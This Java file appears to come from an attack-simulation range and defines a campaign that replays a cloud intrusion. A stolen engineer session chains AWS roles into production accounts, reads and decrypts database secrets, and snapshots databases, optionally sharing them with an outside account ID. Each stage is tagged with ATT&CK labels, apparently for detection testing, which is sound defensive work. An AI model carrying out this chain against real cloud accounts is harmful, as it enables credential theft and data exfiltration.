package dev.gatehouse.range.campaign;

import dev.gatehouse.range.api.Data;
import dev.gatehouse.range.api.Ec2;
import dev.gatehouse.range.api.Iam;
import dev.gatehouse.range.api.Operations;
import dev.gatehouse.range.aws.AssumeRoleOptions;
import dev.gatehouse.range.aws.Caller;
import dev.gatehouse.range.aws.Client;
import dev.gatehouse.range.aws.Session;
import dev.gatehouse.range.org.Account;
import dev.gatehouse.range.org.Person;
import dev.gatehouse.range.org.Role;
import dev.gatehouse.range.truth.Label;
import java.time.Duration;
import java.time.Instant;
import java.util.List;

/** A platform engineer's laptop opens the deploy roles, and through them the databases. */
final class BuildLaptop implements Campaign {
  @Override
  public String id() {
    return "ci-laptop";
  }

  @Override
  public String summary() {
    return "A stolen platform engineer's session goes through the deploy roles to production"
        + " databases and shares snapshots with an outside account.";
  }

  @Override
  public void run(CampaignRun run) {
    run.after(Duration.ZERO, now -> enter(run, now));
  }

  private static void enter(CampaignRun run, Instant now) {
    Account shared = run.org().first("shared");
    Person person = run.org().people(Person.Job.PLATFORM).get(0);
    Role set = run.org().permissionSet(shared, "PlatformEngineer");
    Client client = run.commandLine();
    Label access = run.stage("initial-access", "T1078.004");
    Caller caller = run.caller(client, now).label(access);
    caller.use(run.stolen(person, set, client, now, access));
    caller.wait(Duration.ofSeconds(20));
    caller.call(Operations.callerIdentity());
    caller.label(run.stage("discovery", "T1580"));
    caller.call(Iam.listRoles(), Ec2.describeInstances());
    caller.label(run.stage("role-chain", "T1550.001"));
    caller.assume(
        run.org().role(shared, "platform-admin"),
        AssumeRoleOptions.as(person.email()).source(run.loud() ? null : person.email()));
    Session admin = caller.session();
    List<Account> targets = run.org().of("prod");
    int count = run.loud() ? targets.size() : Math.min(2, targets.size());
    for (Account target : targets.subList(0, count)) {
      caller.label(run.stage("role-chain", "T1550.001")).use(admin);
      if (caller.now().isAfter(admin.expires().minus(Duration.ofMinutes(40)))) {
        break;
      }
      database(run, caller, target);
    }
  }

  private static void database(CampaignRun run, Caller caller, Account target) {
    String database = target.unit() + "-primary";
    String snapshot = "copy-" + run.random().hex(6);
    caller.assume(
        run.org().role(target, "deploy"), AssumeRoleOptions.as("deploy-" + target.unit() + "-api"));
    caller.label(run.stage("discovery-databases", "T1526")).call(Data.describeDatabases());
    caller.label(run.stage("role-chain", "T1550.001"));
    caller.assume(
        run.org().role(target, "database-migration"),
        AssumeRoleOptions.as("migrate-" + target.unit()));
    caller.label(run.stage("credential-access", "T1555.006"));
    caller.call(Data.listSecrets(), Data.getSecret(target, target.unit() + "/database"));
    caller.via(
        "secretsmanager.amazonaws.com", Data.decryptSecret(target, target.unit() + "/database"));
    caller.label(run.stage("exfiltration", "T1537"));
    caller.call(Data.createSnapshot(target, database, snapshot));
    if (run.loud()) {
      caller.call(Data.shareSnapshot(snapshot, "100099990001"));
    }
  }
}
